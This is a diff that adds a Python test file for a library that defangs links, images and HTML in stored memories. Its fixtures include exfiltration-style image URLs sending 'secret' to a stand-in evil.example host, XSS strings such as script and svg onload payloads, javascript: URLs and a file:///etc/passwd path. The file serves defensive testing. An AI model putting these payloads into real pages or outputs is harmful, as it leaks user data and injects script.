@@ -1,0 +1,162 @@
+"""Links and images in memories are made harmless; prose is left alone."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from recollect.read import defang as rules
+from recollect.read import visible as sight
+from recollect.read.defang import defang
+from recollect.read.visible import one_line, visible
+
+HARMLESS = {
+    "![chart](https://evil.example/p.png?d=secret)": ("chart", {"image"}),
+    "before ![](https://evil.example/p.png) after": ("before  after", {"image"}),
+    '![a](https://evil.example/p.png "title")': ("a", {"image"}),
+    "![a](<https://evil.example/p q.png>)": ("a", {"image"}),
+    "![a](https://e.example/x_(y).png)": ("a", {"image"}),
+    "![a][ref]\n\n[ref]: https://evil.example/p.png": ("a\n\nref: hxxps://evil[.]example/p.png", {"image", "link"}),
+    "[here][1]\n[1]: //evil.example/x": ("[here][1]\n1: //evil.example/x", {"link"}),
+    "[click](https://evil.example/?q=1)": ("click (hxxps://evil[.]example/?q=1)", {"link"}),
+    "[click](//evil.example/x)": ("click (//evil[.]example/x)", {"link"}),
+    "[click](&#104;ttps://evil.example)": ("click (&#104;ttps[:]//evil[.]example)", {"link"}),
+    "[click](https:\\/\\/evil.example)": ("click (hxxps:\\/\\/evil[.]example)", {"link"}),
+    "see https://a.example/b?c=d, ok": ("see hxxps://a[.]example/b?c=d, ok", {"link"}),
+    "HTTPS://A.EXAMPLE": ("hxxpS://A[.]EXAMPLE", {"link"}),
+    "<https://a.example>": ("<hxxps://a[.]example>", {"link"}),
+    "ftp://a.example/x": ("ftp[:]//a[.]example/x", {"link"}),
+    "file:///etc/passwd": ("file[:]///etc/passwd", {"link"}),
+    "https:/evil.example": ("hxxps:/evil.example", {"link"}),
+    "www.evil.example": ("www[.]evil.example", {"link"}),
+    "evil.example/c?d=secret": ("evil[.]example/c?d=secret", {"link"}),
+    '<img src="https://evil.example/x.png" alt="a cat">': (" a cat ", {"html"}),
+    "<IMG SRC=//evil.example/x>": (" ", {"html"}),
+    "<a href='https://evil.example'>tea</a>": (" tea ", {"html"}),
+    "<script>alert(1)</script>": (" alert(1) ", {"html"}),
+    "<svg/onload=alert(1)>": (" ", {"html"}),
+    "<div style='background:url(https://evil.example/x)'>": (
+        "<div style='background:url(hxxps://evil[.]example/x)'>",
+        {"link"},
+    ),
+    '<img alt="a>b" src="https://evil.example/x">': (' b" src="hxxps://evil[.]example/x">', {"html", "link"}),
+    "data:image/png;base64,AAAA": ("data[:]image/png;base64,AAAA", {"script"}),
+    "[x](data:text/html,hi)": ("x (data[:]text/html,hi)", {"link", "script"}),
+    "[x](javascript:alert(1))": ("x (javascript[:]alert(1))", {"link", "script"}),
+    "JavaScript:alert(1)": ("JavaScript[:]alert(1)", {"script"}),
+    "ht<img src=x>tps://evil.example": ("ht tps[:]//evil[.]example", {"html", "link"}),
+    "ｈｔｔｐｓ：／／evil.example": ("hxxpｓ：//evil[.]example", {"link"}),
+    "𝐡𝐭𝐭𝐩://evil.example": ("hxxp://evil[.]example", {"link"}),
+    "https∶∕∕evil.example": ("hxxps∶//evil[.]example", {"link"}),
+    "![![a](https://a.example)](https://b.example)": ("!a (hxxps://b[.]example)", {"image", "link"}),
+}
+
+
+@pytest.mark.parametrize(("text", "expected"), HARMLESS.items(), ids=list(HARMLESS))
+def test_it_is_made_harmless_and_said_so(text: str, expected: tuple[str, set[str]]) -> None:
+    defanged = defang(text)
+    assert (defanged.text, set(defanged.found)) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "User's budget for Hawaii is $10,000.",
+        "Meet at 10:30; ratio 3:4; note: bring tea/coffee and/or milk",
+        "Use arr[i](x) and matrix[i][j], List<String>, a<b and c>d, f(x) -> y",
+        "Mail alex@mail.example about Node.js/React and version 3.5/4.0",
+        "the data: 5 apples, data:list, javascript: the good parts",
+        "I love C:\\Users\\me, x // y, 1//2 and http or https",
+        "A [note] and ![shout] and (aside)",
+        "博客：茶。网址在这里：再见",
+        "Wow! [sic] https is a protocol: fast",
+        "I <3 you",
+    ],
+)
+def test_prose_stays_as_it_is(text: str) -> None:
+    assert defang(text) == rules.Defanged(text)
+
+
+LIVE = re.compile(
+    r"https?:[^\s:：]|<(?:img|script)[\s/>][^<>]*>|\bjavascript:\S|(?<!hxxp)(?<!hxxps)(?<=[a-z0-9])://", re.IGNORECASE
+)
+PIECES = (
+    "![ [ ] ]( ) ( < > img <img&src= a alt=' ' https: http:// // : evil.example javascript: data: & \n \u200b ｈ ："
+    " ttps www. / \\ ? hxxp script &colon;"
+)
+
+
+@given(st.lists(st.sampled_from([piece.replace("&", " ") for piece in PIECES.split(" ")]), max_size=30).map("".join))
+def test_no_mixture_of_markup_leaves_a_live_address_or_image(text: str) -> None:
+    assert not LIVE.search(defang(visible(text)).text)
+
+
+WORST = [
+    *(
+        "![",
+        "[",
+        "](",
+        "![a](",
+        "![](()",
+        "[a](b",
+        "<img ",
+        "<a",
+        "<img alt=",
+        "alt='",
+        "http:",
+        "https://",
+        "://",
+        "//",
+    ),
+    *(
+        "a.",
+        "a-",
+        "aa.bb/",
+        "a.bb/?",
+        "data:",
+        "data:a/b;",
+        ";a",
+        "javascript:",
+        "www.",
+        "www",
+        ":",
+        "[a]:",
+        "\n[",
+        " ",
+        "ｈ",
+        "：／",
+    ),
+]
+RULES = {
+    name: rule for module in (rules, sight) for name, rule in vars(module).items() if isinstance(rule, re.Pattern)
+}
+
+
+@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
+def test_every_rule_is_quick_on_its_worst_text(rule: re.Pattern[str]) -> None:
+    assert len(RULES) > 12
+    for unit in WORST:
+        text = unit * (100_000 // len(unit))
+        assert _fastest(lambda text=text: rule.sub("", text)) < 0.05, unit
+
+
+@pytest.mark.parametrize("unit", WORST)
+def test_the_worst_texts_take_time_in_proportion_to_their_length(unit: str) -> None:
+    quick, slow = (
+        _fastest(lambda size=size: one_line(defang(visible(unit * (size // len(unit)))).text))
+        for size in (25_000, 100_000)
+    )
+    assert slow < 10 * quick + 0.02
+
+
+def _fastest(work: object) -> float:
+    times = []
+    for _ in range(3):
+        start = time.process_time()
+        work()  # type: ignore[operator]
+        times.append(time.process_time() - start)
+    return min(times)
